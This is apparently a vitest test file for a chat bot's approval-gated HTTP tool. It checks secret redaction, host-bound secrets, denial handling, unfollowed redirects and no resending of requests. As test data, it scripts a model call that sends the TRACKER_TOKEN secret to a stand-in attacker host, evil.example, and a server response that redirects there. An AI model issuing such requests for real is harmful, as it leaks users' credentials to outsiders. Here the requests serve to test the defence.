import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, onTestFinished, test } from 'vitest'
import { startMemoryBot } from '../support/memory-platform.ts'
import { calls, type ScriptedReply, says } from '../support/model-server.ts'
import { type Answer, site, testWeb } from '../web/support.ts'
import { asked, heard, no, yes } from './trust.ts'

const value = 'tk-9f3K2q7LmZx81'

async function start(answer: Answer, requests: object[]) {
  const server = await site(answer)
  const config = await mkdtemp(join(tmpdir(), 'bobbin-http-'))
  onTestFinished(() => rm(config, { recursive: true, force: true }))
  await writeFile(join(config, 'bobbin.yaml'), "web: { secrets: { TRACKER_TOKEN: ['http://api.example'] } }\n")
  const { web, dialled } = testWeb({ 'api.example': [['127.0.0.1']], 'evil.example': [['127.0.0.1']] })
  const script = [...requests.map((request) => calls('http_fetch', request)), says('Done.')]
  const bot = await startMemoryBot({
    script: JSON.parse(JSON.stringify(script).replaceAll('.example/', `.example:${server.port}/`)) as ScriptedReply[],
    web,
    config: { rules: asked() },
    environment: { BOBBIN_CONFIG_DIR: config, TRACKER_TOKEN: value },
  })
  const message = await bot.memory.say('ana', '@bobbin do it with @http_fetch')
  const done = () => bot.memory.eventually(() => expect(bot.memory.answers(message).at(-1)).toBe('Done.'))
  return { bot, memory: bot.memory, message, server, dialled, done }
}

/** Everything that is stored, and everything that the model was sent. */
const kept = ({ bot }: Awaited<ReturnType<typeof start>>): string =>
  ['events', 'messages', 'calls', 'requests', 'audit', 'outbox']
    .map((table) => JSON.stringify(bot.rows(`select * from ${table}`)))
    .join() + JSON.stringify(bot.model.requests)

const issue = {
  method: 'POST',
  url: `http://api.example/issues?key=\${TRACKER_TOKEN}`,
  headers: { authorization: `Bearer \${TRACKER_TOKEN}`, 'content-type': 'application/json' },
  body: `{"title": "Broken", "by": "\${TRACKER_TOKEN}"}`,
}

test('an approved request carries its secrets, which nobody else sees even when they are sent back', async () => {
  const started = await start(
    (request, response, body) =>
      response
        .writeHead(201, { 'content-type': 'application/json', location: `http://evil.example/${value}` })
        .end(JSON.stringify({ ...request.headers, body, hex: Buffer.from(value).toString('hex') })),
    [issue],
  )
  const { bot, memory, message, server, done } = started
  const card = await memory.untilCard(message)
  expect(card.kind === 'approval' && card.payload).toMatchObject({
    risk: 'medium',
    reason: `Calls a service’s API. It sends POST to api.example:${server.port}, with the secret TRACKER_TOKEN.`,
    input: { method: 'POST', headers: issue.headers },
  })
  expect(server.requests).toEqual([])
  await memory.click('ben', card, yes)
  await done()
  expect(server.requests).toMatchObject([
    {
      method: 'POST',
      path: `/issues?key=${value}`,
      headers: { authorization: `Bearer ${value}` },
      body: `{"title": "Broken", "by": "${value}"}`,
    },
  ])
  expect(heard(bot)).toContain(': 201, application/json]')
  expect(heard(bot)).toContain('[secret: the bot’s own TRACKER_TOKEN]')
  const all = kept(started)
  expect(all).toContain('TRACKER_TOKEN')
  for (const form of [value, Buffer.from(value).toString('hex')]) expect(all).not.toContain(form)
})

test('what is denied, or refers to a secret that is not for this host, sends nothing', async () => {
  const elsewhere = { url: `http://evil.example/\${TRACKER_TOKEN}` }
  const unknown = { url: 'http://api.example/', headers: { 'x-key': `\${PATH}` } }
  const { bot, memory, message, dialled, done } = await start(
    (_, response) => response.end(),
    [elsewhere, unknown, issue],
  )
  const card = await memory.untilCard(message)
  expect(memory.cards(message)).toHaveLength(1)
  await memory.click('ben', card, no)
  await done()
  expect(dialled).toEqual([])
  const told = JSON.stringify(bot.model.requests.at(-1))
  expect(told).toContain('The secret TRACKER_TOKEN may not be sent to http://evil.example')
  expect(told).toContain('There is no secret called PATH. There are: TRACKER_TOKEN.')
  expect(told).toContain('Cancelled: ben denied this')
})

test('a redirect is told and not followed', async () => {
  const { bot, memory, message, server, done } = await start(
    (_, response) => response.writeHead(307, { location: `http://evil.example/take` }).end(),
    [issue],
  )
  await memory.click('ben', await memory.untilCard(message), yes)
  await done()
  expect(server.requests).toHaveLength(1)
  expect(heard(bot)).toContain('location: http://evil.example/take\n[Redirects are not followed.')
})

test('a request whose answer is lost, by the server or by a restart, is not sent again', async () => {
  let isFirst = true
  const { bot, memory, message, server, done } = await start(
    (request) => {
      if (isFirst) request.socket.destroy()
      isFirst = false
    },
    [issue, { ...issue, body: '{}' }],
  )
  const first = await memory.untilCard(message)
  await memory.click('ben', first, yes)
  const second = () => memory.cards(message).find(({ id, state }) => state === 'pending' && id !== first.id)
  await memory.eventually(() => expect(second()).toBeDefined())
  expect(heard(bot)).toContain('Unknown outcome: api.example did not answer')
  const card = second()
  if (card !== undefined) await memory.click('ben', card, yes)
  await memory.eventually(() => expect(server.requests).toHaveLength(2))
  await bot.restart()
  await done()
  expect(server.requests).toHaveLength(2)
  expect(heard(bot)).toContain('Unknown outcome: this was started')
})
